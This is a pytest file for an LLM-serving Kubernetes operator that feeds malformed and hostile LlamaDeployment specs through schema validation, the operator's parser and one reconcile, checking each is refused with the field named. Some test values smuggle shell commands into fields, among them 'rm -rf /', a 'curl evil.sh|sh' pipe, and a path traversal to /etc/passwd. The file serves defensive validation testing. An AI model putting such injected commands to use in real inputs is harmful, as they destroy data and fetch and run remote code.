"""A corpus of malformed and hostile LlamaDeployments, each through every line of defence.

Issue 15 asks that no input a user can write makes the operator build a URL from
unescaped text, leave children half-built, or log a traceback without a status condition.
Each case below goes through:

1. **The API server**, as far as it can run here: the generated CRD's OpenAPI schema
   (jsonschema, with the CRD's defaults applied first) and its CEL rules (cel-python), the
   helpers of ``test_crd.py``. A case marked ``api`` must be refused there, naming its field.
2. **The operator's own parse** (``api.parse_spec``), the second line of defence for a CRD
   from an older release or a cluster that skipped validation: it must refuse the case
   naming the same field, unless the field is outside the spec (``metadata.name``).
3. **One whole reconcile** (``reconcile.reconcile`` with a recording client): it must not
   raise, must report a condition whose message names the field, and, for a spec it cannot
   act on, must apply no child at all.

Cases marked ``condition`` are valid to the API server (a schema cannot know the GPU
pools, the engine release or a model's shape) and are caught by the reconcile alone.
"""

from __future__ import annotations

import copy
import dataclasses
from typing import Any, Literal

import pytest
from test_crd import OPENAPI, OPENAPI_VALIDATOR, apply_defaults, cel_failures, wrap
from test_reconcile import RecordingClient, body, run

from llama_operator import api

MODEL = "meta-llama/Llama-3.1-8B-Instruct"
BASE: dict[str, Any] = {
    "model": {"id": MODEL},
    "license": {"accept": True},
    "auth": {"mode": "optional"},
}
A = "a" * 300
NUL = "\x00"


@dataclasses.dataclass(frozen=True)
class Case:
    id: str
    spec: dict[str, Any]
    field: str  # what the refusal must name, e.g. "spec.model.id"
    caught: Literal["api", "condition"] = "api"
    name: str = "chat"


def with_(path: str, value: Any, base: dict[str, Any] | None = None) -> dict[str, Any]:
    """BASE with ``value`` at the dotted ``path`` (intermediate objects created)."""
    spec = copy.deepcopy(BASE if base is None else base)
    *parents, leaf = path.split(".")
    node = spec
    for part in parents:
        node = node.setdefault(part, {})
    node[leaf] = value
    return spec


def case(path: str, value: Any, *, field: str | None = None, id: str | None = None) -> Case:
    return Case(id or f"{path}={value!r}"[:60], with_(path, value), field or f"spec.{path}")


CASES: list[Case] = [
    # -- model ---------------------------------------------------------------------------
    case("model.id", "", id="model.id empty"),
    case("model.id", "../../etc/passwd", id="model.id path traversal"),
    case("model.id", "meta-llama/Llama 3", id="model.id space"),
    case("model.id", "a/b/c", id="model.id three segments"),
    case("model.id", "x" * 300, id="model.id too long"),
    case("model.id", "meta-llama/Llama-3.1-8B;rm -rf /", id="model.id shell"),
    case("model.id", f"meta-llama/x{NUL}", id="model.id NUL"),
    case("model.revision", "", id="model.revision empty"),
    case("model.revision", "r" * 200, id="model.revision too long"),
    case("model.parameters", "lots", id="model.parameters words"),
    case("model.parameters", "-8B", id="model.parameters negative"),
    case("model.layers", 0, id="model.layers zero"),
    case("model.layers", 100000, id="model.layers huge"),
    case("model.attentionHeads", -1, id="model.attentionHeads negative"),
    case("model.maxContext", 10, id="model.maxContext tiny"),
    case("model.checkpointQuantization", "int3", id="model.checkpointQuantization unknown"),
    case("model.servedName", "s" * 300, id="model.servedName too long"),
    case("model.tokenSecretRef", {"name": "../x"}, field="spec.model.tokenSecretRef.name"),
    case("model.tokenSecretRef", {"name": "Token"}, field="spec.model.tokenSecretRef.name"),
    case(
        "model.tokenSecretRef",
        {"name": "hf", "key": "a/b"},
        field="spec.model.tokenSecretRef.key",
    ),
    # -- top level -----------------------------------------------------------------------
    case("engine", "llama.cpp", id="engine unknown"),
    case("replicas", -1, id="replicas negative"),
    case("replicas", 100000, id="replicas huge"),
    case("replicas", "3", id="replicas string"),
    case("image", "vllm/vllm-openai:v0.34.0; curl evil.sh|sh", id="image shell"),
    case("image", "Vllm/Vllm-Openai:latest", id="image uppercase repository"),
    case("image", "vllm/vllm-openai:", id="image empty tag"),
    case("image", "vllm vllm", id="image space"),
    case("image", "i" * 600, id="image too long"),
    case("engineArgs", ["--x"] * 100, id="engineArgs too many"),
    case("engineArgs", ["a" * 2000], id="engineArgs one too long"),
    case("engineArgs", "--max-model-len 4096", id="engineArgs a string"),
    # -- placement -----------------------------------------------------------------------
    case("placement.optimize", "cheapest", id="placement.optimize unknown"),
    case("placement.quantization", "int2", id="placement.quantization unknown"),
    case("placement.tensorParallel", 3, id="placement.tensorParallel 3"),
    case("placement.tensorParallel", "many", id="placement.tensorParallel word"),
    case("placement.maxModelLen", 5, id="placement.maxModelLen tiny"),
    case("placement.concurrentSequences", 0, id="placement.concurrentSequences zero"),
    case("placement.gpuMemoryUtilization", 1.5, id="placement.gpuMemoryUtilization >1"),
    case("placement.gpuMemoryUtilization", 0.1, id="placement.gpuMemoryUtilization tiny"),
    case("placement.pools", ["p" * 80], id="placement.pools name too long"),
    # -- modelCache ----------------------------------------------------------------------
    case("modelCache.volume", "hostPath", id="modelCache.volume hostPath"),
    case(
        "modelCache",
        {"volume": "persistentVolumeClaim", "claimName": "../../x"},
        field="spec.modelCache.claimName",
        id="modelCache.claimName traversal",
    ),
    case("modelCache.sizeLimit", "lots", id="modelCache.sizeLimit words"),
    # -- autoscaling ---------------------------------------------------------------------
    case("autoscaling", {"minReplicas": 5, "maxReplicas": 2}, field="spec.autoscaling"),
    case("autoscaling", {"engine": "knative"}, field="spec.autoscaling.engine"),
    case("autoscaling", {"metric": "gpu"}, field="spec.autoscaling.metric"),
    case("autoscaling", {"intervalSeconds": 0}, field="spec.autoscaling.intervalSeconds"),
    case("autoscaling", {"target": -1}, field="spec.autoscaling.target"),
    case("autoscaling", {"minReplicas": 0}, field="spec.autoscaling", id="scale to zero builtin"),
    case("autoscaling", {"metric": "kvCache", "target": 4}, field="spec.autoscaling"),
    # -- rollout -------------------------------------------------------------------------
    case("rollout", {"strategy": "BlueGreen"}, field="spec.rollout.strategy"),
    case("rollout", {"steps": [{"weight": 0}]}, field="spec.rollout.steps"),
    case("rollout", {"steps": [{"weight": 100}]}, field="spec.rollout.steps"),
    case("rollout", {"steps": [{"weight": 50}, {"weight": 10}]}, field="spec.rollout.steps"),
    case("rollout", {"readyTimeout": "forever"}, field="spec.rollout.readyTimeout"),
    case("rollout", {"analysis": {"maxErrorRate": 2}}, field="spec.rollout.analysis.maxErrorRate"),
    case(
        "rollout",
        {"analysis": {"countAsErrors": ["everything"]}},
        field="spec.rollout.analysis.countAsErrors",
    ),
    # -- traffic -------------------------------------------------------------------------
    case("traffic", {"gatewayRef": {"name": "../gw"}}, field="spec.traffic.gatewayRef.name"),
    case(
        "traffic",
        {"gatewayRef": {"name": "gw", "namespace": "a.b"}},
        field="spec.traffic.gatewayRef.namespace",
    ),
    case(
        "traffic",
        {"gatewayRef": {"name": "gw"}, "hostnames": ["EVIL..com"]},
        field="spec.traffic.hostnames",
    ),
    # -- fallbacks, failover, licence, auth, network --------------------------------------
    case("fallbacks", [{"model": {"id": "a b"}}], field="spec.fallbacks"),
    case("fallbacks", [{"model": {"id": MODEL}}] * 9, field="spec.fallbacks"),
    case("failover", {"gracePeriod": "5 minutes"}, field="spec.failover.gracePeriod"),
    case("failover", {"overloadQueuePerReplica": 0}, field="spec.failover.overloadQueuePerReplica"),
    case("license", {"accept": "yes"}, field="spec.license.accept"),
    case("license", {"accept": True, "id": ""}, field="spec.license.id"),
    case("auth", {"mode": "none"}, field="spec.auth.mode"),
    case("auth", {"apiKeySecretRef": {"name": "../x"}}, field="spec.auth.apiKeySecretRef.name"),
    case(
        "auth",
        {"apiKeySecretRef": {"name": "k", "key": "../k"}},
        field="spec.auth.apiKeySecretRef.key",
    ),
    case(
        "network",
        {
            "allowFrom": [
                {"podSelector": {"matchExpressions": [{"key": "app", "operator": "Near"}]}}
            ]
        },
        field="spec.network.allowFrom",
    ),
    case(
        "network",
        {"egress": {"restrict": True, "allowTo": [{"ipBlock": {"cidr": "everything"}}]}},
        field="spec.network.egress.allowTo",
    ),
    case("limits", {"unknownLimit": 1}, field="spec.limits"),
    # -- names the children cannot carry -------------------------------------------------
    Case("metadata.name with dots", copy.deepcopy(BASE), "metadata.name", name="a.b.c"),
    Case("metadata.name too long", copy.deepcopy(BASE), "metadata.name", name="n" * 60),
    Case("metadata.name uppercase", copy.deepcopy(BASE), "metadata.name", name="Chat"),
    Case("metadata.name leading digit", copy.deepcopy(BASE), "metadata.name", name="1chat"),
    # -- valid to the schema; only the reconcile can tell ---------------------------------
    Case(
        "unknown pool",
        with_("placement.pools", ["no-such-pool"]),
        "spec.placement.pools",
        caught="condition",
    ),
    Case(
        "fp8 pinned on an A100-only placement",
        with_("placement", {"quantization": "fp8", "pools": ["a100-40gb"]}),
        "spec.placement",
        caught="condition",
    ),
    Case(
        "seven heads at tensorParallel 2",
        with_(
            "placement.tensorParallel",
            2,
            with_(
                "model",
                {
                    "id": "example/odd",
                    "parameters": "1B",
                    "layers": 16,
                    "hiddenSize": 2048,
                    "attentionHeads": 7,
                    "kvHeads": 7,
                    "headDim": 64,
                    "maxContext": 8192,
                },
            ),
        ),
        "spec.placement.tensorParallel",
        caught="condition",
    ),
    Case(
        "unknown model without its parameters",
        with_("model", {"id": "nobody/unknown-model"}),
        "spec.model",
        caught="condition",
    ),
    Case(
        "licence id the operator does not know",
        with_("license", {"accept": True, "id": "wtfpl-ish"}),
        "spec.license.id",
        caught="condition",
    ),
]


def api_server_refusals(obj: dict[str, Any]) -> list[str]:
    """Every refusal the API server would give ``obj``, each as "path: message"."""
    obj = copy.deepcopy(obj)
    apply_defaults(obj, OPENAPI)
    schema = [
        f"{error.json_path.removeprefix('$.')}: {error.message}"
        for error in OPENAPI_VALIDATOR.iter_errors(obj)
    ]
    return schema or cel_failures(obj, OPENAPI)


def names(text: str, field: str) -> bool:
    """Whether ``text`` names ``field`` (or, for a list field, one of its items)."""
    return field in text or field.removeprefix("spec.") in text


def test_the_corpus_is_large_and_every_id_is_unique() -> None:
    assert len(CASES) >= 60
    assert len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("hostile", CASES, ids=[c.id for c in CASES])
def test_refused_by_the_api_server_or_reported_with_the_field(hostile: Case) -> None:
    obj = wrap(hostile.spec, name=hostile.name)
    refusals = api_server_refusals(obj)
    if hostile.caught == "api":
        assert refusals, f"the API server would accept {hostile.id}"
        assert any(names(r, hostile.field) for r in refusals), refusals
    else:
        assert refusals == [], f"{hostile.id} is meant to be valid to the schema: {refusals}"


@pytest.mark.parametrize(
    "hostile",
    [c for c in CASES if c.caught == "api" and not c.field.startswith("metadata")],
    ids=[c.id for c in CASES if c.caught == "api" and not c.field.startswith("metadata")],
)
def test_refused_by_the_operators_parse_with_the_field(hostile: Case) -> None:
    with pytest.raises(api.SpecError) as refused:
        api.parse_spec(copy.deepcopy(hostile.spec))
    assert refused.value.field.startswith(hostile.field) or hostile.field.startswith(
        refused.value.field
    ), str(refused.value)


@pytest.mark.parametrize("hostile", CASES, ids=[c.id for c in CASES])
def test_one_reconcile_reports_a_condition_and_builds_nothing_half(hostile: Case) -> None:
    b = body(copy.deepcopy(hostile.spec))
    b["metadata"]["name"] = hostile.name
    client = RecordingClient()
    outcome, _ = run(b, client=client)  # raising here is the traceback the issue forbids
    bad = [
        c
        for c in outcome.status_patch.get("conditions") or []
        if c["status"] == "False" and names(c["message"], hostile.field)
    ]
    assert bad, (hostile.id, outcome.status_patch.get("conditions"))
    # Nothing that serves is built for a spec or name the operator cannot act on.
    assert not [o for o in client.applied if o["kind"] == "Deployment"], hostile.id
